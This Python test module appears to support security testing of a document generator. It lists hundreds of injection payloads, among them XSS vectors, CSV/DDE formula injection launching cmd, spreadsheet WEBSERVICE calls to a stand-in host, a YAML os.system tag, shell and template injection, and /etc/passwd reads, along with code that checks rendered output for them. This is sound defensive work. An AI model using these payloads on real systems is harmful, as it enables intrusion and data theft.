"""Texts that try to be more than text: each by what it is made of, and where in a text that stands.

In each a § stands for a name of its own, by which it is found again in whatever is made of a round.
"""

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unicodedata import normalize

from playwright.sync_api import Browser

AWAY = "https://kwaad.example/§"
_RAN = "window.__ran='§'"

_WRITTEN: dict[str, tuple[str, ...]] = {
    "HTML: elements": (
        "<b>§</b>",
        "<h1>§</h1> kop",
        "<table><tr><td>§</td></tr></table>",
        "</td></tr></table><p>§</p>",
        "</div></section></main></body></html>§",
        "<ul><li>§<li>twee</ul>",
        f'<a href="{AWAY}">klik</a>',
        f"<a target=_blank href={AWAY}>klik</a>",
        f"<img src='{AWAY}.png'>",
        f'<img src={AWAY} alt="">',
        f'<iframe src="{AWAY}"></iframe>',
        "<iframe srcdoc=\"&lt;script&gt;parent.__ran='§'&lt;/script&gt;\"></iframe>",
        f'<object data="{AWAY}"></object>',
        f'<embed src="{AWAY}">',
        f'<link rel=stylesheet href="{AWAY}.css">',
        f'<meta http-equiv="refresh" content="0;url={AWAY}">',
        f'<base href="{AWAY}/">',
        f'<form action="{AWAY}"><input name=x autofocus><button>§</button></form>',
        "<textarea>§</textarea>",
        "<title>§</title>",
        "<style>*{display:none}/*§*/</style>",
        f'<video poster="{AWAY}"><source src="{AWAY}"></video>',
        f'<audio src="{AWAY}" autoplay></audio>',
        "<details open><summary>§</summary>open</details>",
        "<dialog open>§</dialog>",
        "<template>§</template>",
        "<noscript><p>§</p></noscript>",
        "<marquee>§</marquee>",
        "<plaintext>§",
        "<xmp>§</xmp>",
        "<select><option>§</select>",
        "<frameset><frame src=§></frameset>",
    ),
    "HTML: scripts and handlers": (
        f"<script>{_RAN}</script>",
        f"<SCRIPT>{_RAN}</SCRIPT >",
        f"<script/x>{_RAN}</script>",
        f"<script type=module>{_RAN}</script>",
        f'<script src="{AWAY}.js"></script>',
        f"</script><script>{_RAN}</script>",
        f"</style><script>{_RAN}</script>",
        f"</title><script>{_RAN}</script>",
        f"</textarea><script>{_RAN}</script>",
        f"--><script>{_RAN}</script>",
        f"]]><script>{_RAN}</script>",
        f'"><script>{_RAN}</script>',
        f"'><script>{_RAN}</script>",
        f'<img src=x onerror="{_RAN}">',
        f"<img/src=x/onerror={_RAN}>",
        f'<body onload="{_RAN}">',
        f'<input autofocus onfocus="{_RAN}">',
        f'<details open ontoggle="{_RAN}">',
        f'<p onpointerover="{_RAN}" style="position:fixed;inset:0">',
        f'<video><source onerror="{_RAN}"></video>',
        f'<a href="#" onclick="{_RAN}">§</a>',
        f'" onmouseover="{_RAN}" x="',
        f"' onmouseover='{_RAN}' x='",
        f"` onmouseover=`{_RAN}` x=`",
        f'" autofocus tabindex=1 onfocus="{_RAN}',
        f'x" style="animation-name:x" onanimationstart="{_RAN}',
    ),
    "HTML: entities and broken tags": (
        "&lt;b&gt;§&lt;/b&gt;",
        "&#60;script&#62;§",
        "&#x3c;img src=x&#x3e;§",
        "&amp;lt;b&amp;gt;§",
        "&quot;&gt;§",
        "&nbsp;&zwj;§",
        "&lt§ &ltb&gt",
        "&#0;§&#x110000;",
        "& §; &§ &;",
        "<!-- § -->",
        "<!-- § ",
        "<!--> § -->",
        "--!> § <!--",
        "<![CDATA[§]]>",
        "]]>§",
        "<!DOCTYPE html [<!ENTITY e '§'>]>",
        "<?xml version='1.0'?><?php echo '§' ?>",
        "<b<i>§",
        "<b §",
        "< b>§</ b>",
        "<<b>>§<</b>>",
        "</§>",
        "<§",
        '<b title="§>',
        "<a\thref=#§>x",
        "<b\n>§</b\n>",
        "<%= § %>",
        "<svg:b>§</svg:b>",
        "<x-eigen is='§'></x-eigen>",
    ),
    "SVG": (
        f"<svg onload={_RAN}>",
        f"<svg><script>{_RAN}</script></svg>",
        f'<svg><script href="{AWAY}"/></svg>',
        f'<svg><a xlink:href="javascript:{_RAN}"><text>§</text></a></svg>',
        f'<svg><image href="{AWAY}.png"/></svg>',
        f'<svg><use href="{AWAY}#a"/></svg>',
        f'<svg><foreignObject><body onload="{_RAN}"/></foreignObject></svg>',
        f'<svg><animate onbegin="{_RAN}" attributeName=x dur=1s></svg>',
        f'<svg><set attributeName=href to="javascript:{_RAN}"></svg>',
        "<svg><style>@import '§';</style></svg>",
        "<svg><title>§</title></svg>",
        "</text></svg><svg><text>§</text></svg>",
        f'<?xml-stylesheet href="{AWAY}"?><svg/>',
    ),
    "MathML": (
        "<math><mi>§</mi></math>",
        f'<math href="javascript:{_RAN}">§</math>',
        f'<math><maction actiontype="statusline" xlink:href="{AWAY}">§</maction></math>',
        f"<math><mtext><img src=x onerror={_RAN}></mtext></math>",
        f'<math><annotation-xml encoding="text/html"><script>{_RAN}</script></annotation-xml></math>',
        f"<math><mglyph><style><img src=x onerror={_RAN}></style></mglyph></math>",
        "<m:oMath><m:r><m:t>§</m:t></m:r></m:oMath>",
    ),
    "JavaScript and data addresses": (
        f"javascript:{_RAN}",
        f"JaVaScRiPt:{_RAN}",
        f"java\tscript:{_RAN}",
        f"javascript&colon;{_RAN}",
        f"javascript://%0a{_RAN}",
        "vbscript:msgbox(§)",
        f"data:text/html,<script>{_RAN}</script>",
        "data:image/svg+xml,<svg onload=§>",
        "file:///etc/passwd#§",
        "ms-word:ofe|u|§",
        "mailto:§",
        "blob:§",
        "//kwaad.example/§",
        AWAY,
        f"zie {AWAY}, en daarna verder",
        "www.kwaad.example/§",
    ),
    "Markdown: links and pictures": (
        f"[§]({AWAY})",
        f'[§](<{AWAY}> "titel")',
        f"[§](javascript:{_RAN})",
        f"![§]({AWAY}.png)",
        f"[![§]({AWAY}.png)]({AWAY})",
        f"<{AWAY}>",
        "[§][a]\n\n[a]: https://kwaad.example",
        "[§][]",
        f"[§]: {AWAY}",
        f'[§]: <{AWAY}> "t"',
        "![§][b]",
        "[[§]]",
        "[§]{.klasse onclick=x}",
        "[@§]",
        "-@§",
        "[^1]: §",
        "tekst[^§]",
        "^[§]",
    ),
    "Markdown: blocks": (
        "# § kop",
        "## § kop ##",
        "###### §",
        "§\n===",
        "§\n---",
        "- § punt",
        "* § punt",
        "+ § punt",
        "1. § punt",
        "2019) § punt",
        "(i) § punt",
        "- [ ] § te doen",
        "> § citaat",
        ">>> §",
        "    § vier spaties ervoor",
        "```\n§\n```",
        "```{=html}\n<b>§</b>\n```",
        "~~~ {.raw}\n§\n~~~",
        "---\n§",
        "***\n§",
        "| § | b |\n|---|---|\n| c | d |",
        "+---+\n| § |\n+===+",
        "| §\n| regels",
        "§\n: uitleg",
        "::: {.waarschuwing}\n§\n:::",
        "<div markdown=1>\n# §\n</div>",
        "*[§]: afkorting",
        "{: .klasse #§}",
        "!!! note §",
        "[TOC] §",
    ),
    "Markdown: within a line": (
        "*§*",
        "**§**",
        "***§***",
        "_§_ en __§__",
        "~~§~~",
        "`§`",
        "``§` ``",
        "<b>*§*</b>",
        "H~§~O en x^§^",
        "==§==",
        "\\*§\\*",
        "§  \nnieuwe regel",
        "§\\\nnieuwe regel",
        ":smile: §",
        "§ -- --- ...",
        "\"§\" 'en'",
        "`<b>§</b>`{=html}",
        "$§$ en $$§$$",
        "||§||",
        "[§]{custom-style=Kop}",
    ),
    "Excel and CSV": (
        '=1+1&"§"',
        '+1+1&"§"',
        '-1+1&"§"',
        '@SUM(1+1)&"§"',
        '=HYPERLINK("https://kwaad.example/§","klik")',
        "=cmd|'/C calc'!§",
        '=DDE("cmd";"/C calc";"§")',
        "+cmd|' /C calc'!§",
        "-2+3+cmd|' /C calc'!§",
        "@cmd|' /C calc'!§",
        '=WEBSERVICE("https://kwaad.example/§")',
        '=IMPORTXML("https://kwaad.example/§","//a")',
        '=IMAGE("https://kwaad.example/§")',
        '=INDIRECT("§!A1")',
        "=§",
        "= §",
        "==§",
        "=-+@§",
        "--§",
        "+-@=§",
        '\'=1+1&"§"',
        "''=§",
        '"=1+1" §',
        '"§"',
        '§"',
        '"""=§',
        "§;=1+1",
        "§;@SUM(1)",
        "§; =1+1",
        '§;"=1+1"',
        "§\n=1+1",
        "§\n-1+1",
        "§\t=1+1",
        "§,=1+1",
        "§|=1+1",
        "\uff1d1+1 §",
        "\uff0b1+1 §",
        "\uff0d1+1 §",
        "\uff20SUM(1) §",
        "§;\uff1d1+1",
        "\u22121+1 §",
        "sep=; §",
        "#NAAM? §",
        "#N/A §",
        "{=1+1} §",
        "1e400 §",
        "0x41 §",
        '=\n1+1&"§"',
        "%0A=§",
    ),
    "Word and OOXML": (
        '{ HYPERLINK "https://kwaad.example/§" }',
        '{ INCLUDETEXT "§" }',
        '{ DDEAUTO c:\\\\windows\\\\cmd.exe "§" }',
        "{ PAGEREF §  \\h }",
        '\\o "1-3" \\h § { TOC \\o }',
        "_x000D_§",
        "_x0041_§",
        "§_x000a_=1+1",
        "_x005F_x0041_§",
        "_x0000_§",
        "_xD83D_§",
        "_x0041§",
        "<w:p><w:r><w:t>§</w:t></w:r></w:p>",
        "</w:t></w:r></w:p><w:p><w:r><w:t>§",
        '<w:fldSimple w:instr="§"/>',
        '<w:br w:type="page"/>§',
        '<w:hyperlink r:id="rId1">§</w:hyperlink>',
        "<a:t>§</a:t>",
        '<a:hlinkClick r:id="§"/>',
        "{\\rtf1 §}",
        "{{DOCPROPERTY §}}",
        "_Toc00000001 §",
        "«§»",
    ),
    "typst": (
        '#read("/etc/passwd") §',
        '#eval("§")',
        '#panic("§")',
        '#import "@preview/§:1.0.0"',
        '#include "§"',
        '#link("https://kwaad.example/§")[klik]',
        "#let § = 1",
        "#set page(width: 1cm) §",
        "#show: it => [§]",
        "#pagebreak() §",
        '#figure(image("§"))',
        "#[§]",
        '#{ "§" }',
        "#§",
        "#sys.inputs §",
        "#context here() §",
        "= § kop",
        "== § kop",
        "====== §",
        "/ §: uitleg",
        "/ § : uitleg",
        "+ § stap",
        "-- § streep",
        "12. § stap",
        "$ x^2 $ §",
        "$§$",
        "$ sum_(i=0)^n § $",
        "@§",
        "@§[bij]",
        "<§>",
        "§ <label>",
        "// § weg",
        "/* § */",
        "/* § ",
        "*/ §",
        "\\ § \\",
        "\\u{1f600} §",
        "\\#§",
        "~§~",
        "§---§",
        "§ -? §",
        "``` § ```",
        "```typ #§ ```",
        "`§`#`x`",
        "*§",
        "_§",
        "§_",
        "[§",
        "§]",
        "](§)[",
        ']; panic("§") [',
        '"); #panic("§"); ("',
        '#"§"',
        "§:§",
        "§\n\n= kop",
        "§\n- punt\n+ punt",
    ),
    "pandoc": (
        '`#panic("§")`{=typst}',
        "```{=openxml}\n<w:p/>§\n```",
        "\\newpage §",
        "\\begin{center}§\\end{center}",
        '<span custom-style="Kop">§</span>',
        '<div custom-style="Titel">§</div>',
        '<span id="_Toc00000001">§</span>',
        "% § titel\n% maker",
        "---\ntitle: §\n---",
        "$title$ §",
        "$for(x)$§$endfor$",
        "$if(§)$ja$endif$",
        "$~§$",
        "\\(§\\)",
        "\\[§\\]",
    ),
    "YAML": (
        "&anker §",
        "*anker §",
        "!!python/object/apply:os.system [§]",
        "!!binary §",
        "!<tag:§> x",
        "--- §",
        "---\n§: ja",
        "...\n§",
        "<<: *§",
        "§: waarde",
        "- §",
        "? §",
        ": §",
        "[§, twee]",
        "{§: twee}",
        "| §",
        ">- §",
        "% §",
        "@§ ervoor",
        "# § commentaar",
        "§ # commentaar",
        "§:",
        "'§",
        '"§',
        '"\\x41 §"',
        "~ §",
        "null §",
        "no §",
        "2026-01-01 §",
        "1_000 §",
        "§: {a: [*b, &c d]}",
        "%YAML 1.1\n--- §",
        "§\n  ingesprongen: ja",
    ),
    "templates": (
        "{{ 7*7 }} §",
        "{{ '§'.__class__.__mro__ }}",
        "{{ config }} §",
        "{{§}}",
        "{{{§}}}",
        "{{#each §}}x{{/each}}",
        "{{> §}}",
        "{% for x in '§' %}{{ x }}{% endfor %}",
        "{% include '§' %}",
        "{% raw %}§",
        "{% endblock %}§{% block x %}",
        "{# § #}",
        "{#- § ",
        "{0.__class__} §",
        "{0} §",
        "{} §",
        "{§}",
        "{{}} {§!r:>99}",
        "}{ §",
        "%(§)s",
        "%s %d %n §",
        "100% § %",
        "${§}",
        "${7*7} §",
        "$§",
        "#{7*7} §",
        "<%= 7*7 %> §",
        "@(7*7) §",
        "[[${7*7}]] §",
        "*{7*7} §",
        "f'{§}'",
        "\\N{BULLET} \\u0041 \\x41 §",
        "$(touch §)",
        "`touch §`",
        "; touch § #",
        "\\1 \\g<0> §",
    ),
    "LaTeX": (
        "\\input{§}",
        "\\write18{§}",
        "\\href{https://kwaad.example/§}{klik}",
        "\\unicode{§}",
        "\\require{html}\\href{javascript:§}{x}",
        "$\\href{javascript:§}{x}$",
        "$$\\class{§}{x}$$",
        "\\begin{equation}§\\end{equation}",
        "\\begin{§}",
        "$\\frac{$ §",
        "\\def\\x{\\x\\x}\\x §",
        "$\\rm§$",
        "\\textbf{§}",
        "x_§ en x^{§}",
        "% § weg",
        "\\\\ § \\\\",
        "~§~\\&",
        "\\(\\style{color:red}{§}\\)",
    ),
    "unseen and turned signs": (
        "\u202egnp.§\u202c",
        "\u2066§\u2069 x",
        "\u2067§ x",
        "\u202a§\u202b x",
        "\u200e§\u200f",
        "\u061c§",
        "\u200b§\u200b",
        "§\u200d=1+1",
        "\u200c=§",
        "\ufeff=1+1 §",
        "\ufeff§",
        "\u2060§\u2063",
        "\u00ad§",
        "\u180e§",
        "java\u200bscript:§",
        "<\u200bscript>§",
        "\u00a0=1+1 §",
        "\u3000=1+1 §",
        "\u2028= § kop",
        "\u2029- §",
        "§\u0085= kop",
        "https://\u043awaad.example/§",
        "https://kw\u0430\u0430d.example/§",
        "\u1d43\u1d47 § \u2024\u2024/",
        "\ufe64script\ufe65§\ufe64/script\ufe65",
        "\uff1cscript\uff1e§\uff1c/script\uff1e",
        "\u2039script\u203a§",
        "\u02bc\u2032\u2033§",
        "e\u0301\u0301\u0301\u0301 §",
        "\ufdd0§",
        "§\ufffe",
        "§\uffff x",
        "\U0001fffe§",
        "\ufff9§\ufffa\ufffb",
        "\ue000§",
        "\U000e0001\U000e0061§",
        "\ufe0f\u20e3§",
    ),
    "controls and ANSI": (
        "\x1b[31m§\x1b[0m",
        "\x1b[2J\x1b[H§",
        "\x1b]0;§\x07",
        "\x1b]8;;https://kwaad.example/§\x1b\\klik\x1b]8;;\x1b\\",
        "\x1bP§\x1b\\",
        "\x1b[6n§",
        "\x9b31m§",
        "\x9d0;§\x9c",
        "\x07\x07§",
        "§\x08\x08\x08xxx",
        "§\rovergeschreven",
        "\x0b§\x0c",
        "\x7f§",
        "\x01\x02\x03\x04§",
        "§\x1a",
        "\x1c§\x1d\x1e\x1f",
        "\x85§",
        "\x80\x81§",
        "\t§",
        "§\ttab",
        "§\n\n\n\nregels",
        "\x1b[1;31m<b>§</b>",
        "\\x1b[31m§ \\033[0m \\e[0m",
        "^[[31m§",
        "[red]§[/red]",
        "[link=https://kwaad.example/§]klik[/link]",
        "[/] [/bold] §",
        "[bold §",
        "\\[red]§",
        "[@click=app.bell]§[/]",
        ":boom: §",
    ),
    "notebooks": (
        "%%html\n<b>§</b>",
        "%%javascript\n§",
        "%run §",
        "!touch §",
        "%load https://kwaad.example/§",
        "?§",
        "§??",
        "%matplotlib §",
        '{"cell_type": "code", "source": ["§"]}',
        '{"output_type": "display_data", "data": {"text/html": "<b>§</b>"}}',
        "application/javascript §",
        "application/vnd.klankbord.block+json §",
        "attachment:§.png",
        "![§](attachment:§.png)",
        "display(HTML('§'))",
        "<!-- #region § -->",
        "# %% § [markdown]",
        "'); window.__ran='§'; ('",
        "\\'); window.__ran='§'; (\\'",
        '"}]}§',
        "'''\n§",
        '"""\n§',
        "§\\",
        "__import__('os').system('§')",
        '{"is": "Link", "text": "§", "address": "https://kwaad.example"}',
    ),
    "inside our own files": (
        "/S/TD/Headers[(U1x1y1)] §",
        "/ID(U999x §",
        ") /S /URI /URI (https://kwaad.example/§",
        "endobj xref\n0 1 startxref §",
        "%PDF-1.7 § %%EOF",
        "kb_1_2 §</span>",
        '<span id="kb_1_2">§</span><a href="bijlagen.docx#kb_1_2">1</a>',
        'href="rapport.docx#§"',
        'class="chip muted" §',
        'width="1" height="1" src="data:image/svg+xml;base64,PHN2Zy8+" §',
        'name="klankbord-doorlopend" §',
        "Titel van het document §",
        "E-interviews-bereik-§",
        "F-effectiviteit-bereik:stemmen §",
        "[@F-effectiviteit-§]",
        "[mening] §",
        "[advies] §",
        '{{ waarde("§") }}',
        "{{ gedrukt('§') }}",
        "kop</h2><h2>§",
        "</tbody></table><tbody>§</tbody>",
        "../../§",
        "..\\..\\§",
        "CON §",
        "§/../§",
        "§.html#§",
    ),
}


@dataclass(frozen=True)
class Injected:
    """A text that tries to be more than text.

    Attributes
    ----------
    name : str
        What it is found again by.
    kind : str
        What it is made of.
    text : str
        It.
    """

    name: str
    kind: str
    text: str

    @property
    def innocent(self) -> str:
        """The same words on as many lines, without a sign that means anything to anybody."""
        return re.sub(r"[^\w\n ]|_", "x", shown(self.text))


INJECTED = tuple(
    Injected(f"zk{number:03}z", kind, text.replace("§", f"zk{number:03}z"))
    for number, (kind, text) in enumerate((kind, text) for kind, texts in _WRITTEN.items() for text in texts)
)


def _signs(*ranges: tuple[int, int]) -> dict[int, None]:
    return {number: None for first, last in ranges for number in range(first, last + 1)}


# What no reader sees, and what turns what stands around it: left out of everything that is made.
_STEER = _signs(
    *((0x00, 0x08), (0x0B, 0x0C), (0x0E, 0x1F), (0x7F, 0x9F)),  # controls, but for a tab and the ends of lines
    *((0x202A, 0x202E), (0x2066, 0x2069)),  # what turns the direction of writing
    (0xD800, 0xDFFF),  # halves of a character
    *((0xFDD0, 0xFDEF), *((plane + 0xFFFE, plane + 0xFFFF) for plane in range(0, 0x110000, 0x10000))),  # no characters
)
# What is left out of a table that is read besides: signs that can't be seen, and joiners of what needs no joining.
_UNSEEN = _signs(
    *((0xAD, 0xAD), (0x061C, 0x061C), (0x180E, 0x180E), (0x200B, 0x200F), (0x2060, 0x2064), (0x206A, 0x206F)),
    *((0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB)),
)


def shown(text: str) -> str:
    """Give a text as everything that is made has it: without what steers, and with one kind of line end."""
    return re.sub("[\u2028\u2029]", "\n", text.translate(_STEER))


def read(text: str) -> str:
    """Give a text as it is when it was read from a table: letters composed, and without what can't be seen."""
    return normalize("NFC", shown(text.translate(_UNSEEN)))


def together(text: str) -> str:
    """Give a text without spaces and line ends: those are where there is room for them."""
    return re.sub(r"\s+", "", text)


def otherwise(text: str, change: Callable[[str], str], texts: Iterable[Injected] = INJECTED) -> tuple[int, list[str]]:
    """Look for every place where an injected text stands.

    Parameters
    ----------
    text : str
        All that stands in what was made.
    change : callable
        What becomes of a text on its way there, and nothing else may.
    texts : iterable of Injected
        What was put in.

    Returns
    -------
    int
        How many places there are.
    list of str
        What stands at those where it is not as it was put in.
    """
    text = together(text)
    places = {each.name: [] for each in texts}
    wanted = {each.name: together(change(each.text)) for each in texts}
    for found in re.finditer(r"zk\d{3}z", text):
        places[found[0]].append(found.start())
    wrong = []
    for name, starts in places.items():
        whole = wanted[name]
        within = [match.start() for match in re.finditer(name, whole)]
        wrong += [
            text[max(0, start - 40) : start + 60]
            for start in starts
            if not any(text.startswith(whole, start - offset) for offset in within if start >= offset)
        ]
    return sum(map(len, places.values())), wrong


# What a browser made of a page: its elements by what they are and which attributes they have, its words, and what its
# attributes say that lead somewhere, would run something, or have an injected text.
_LOOK = """() => {
    const elements = {}, leads = [], live = [], said = [];
    for (const element of document.querySelectorAll('*')) {
        const names = element.getAttributeNames().filter(name => name !== 'href' || element.tagName !== 'A');
        const key = [element.namespaceURI, element.tagName, element.className, ...names].join(' ');
        elements[key] = (elements[key] || 0) + 1;
        for (const name of element.getAttributeNames()) {
            const value = element.getAttribute(name);
            if (/^on/i.test(name)) live.push(`${name}=${value}`);
            else if (['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcdoc', 'xlink:href'].includes(name)) {
                leads.push(value.startsWith('data:image/') ? 'data:image/' : value);
            }
            else if (value.includes('zk')) said.push(value);
        }
    }
    for (const part of document.querySelectorAll('style, script')) part.remove();
    const title = document.title;
    return { elements, leads, live, said, title, text: document.documentElement.textContent, ran: window.__ran ?? '' };
}"""


@dataclass(frozen=True)
class Seen:
    """A page as a browser has it.

    Attributes
    ----------
    elements : dict of str to int
        How many there are of each kind of element.
    leads : list of str
        Where its links and pictures lead.
    live : list of str
        Attributes that would run something.
    said : list of str
        What other attributes say in which a name stands.
    text : str
        Its words.
    happened : list of str
        What ran, what was asked of the network, and what the browser complained of.
    """

    elements: dict[str, int]
    leads: list[str]
    live: list[str]
    said: list[str]
    text: str
    happened: list[str]


def seen(browser: Browser, path: Path, *, policy: bool = True) -> Seen:
    """Look at a page in a browser, with everything open; without its policy that which is live would run."""
    page = browser.new_page()
    happened: list[str] = []
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda opened: happened.append(opened.url))
    page.on("request", lambda asked: happened.append(asked.url))
    if not policy:
        without = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", path.read_text(encoding="utf-8"))
        path = path.with_suffix(".zonder.html")
        path.write_text(without, encoding="utf-8")
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    found: dict[str, Any] = page.evaluate(_LOOK)
    page.close()
    own = [each for each in happened if each != path.as_uri() and not each.startswith("data:image/")]
    return Seen(
        *(found["elements"], found["leads"], found["live"], found["said"]),
        *(f"{found['title']} {found['text']}", [*own, *filter(None, [found["ran"]])]),
    )
